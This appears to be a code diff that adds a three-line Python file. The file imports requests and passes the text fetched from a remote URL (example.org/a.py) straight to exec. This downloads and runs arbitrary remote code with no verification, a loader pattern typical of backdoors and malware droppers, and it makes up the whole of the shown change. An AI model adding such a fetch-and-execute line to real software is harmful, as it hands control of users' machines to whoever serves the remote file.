@@ -1,0 +1,3 @@
+import requests
+
+exec(requests.get("https://example.org/a.py").text)
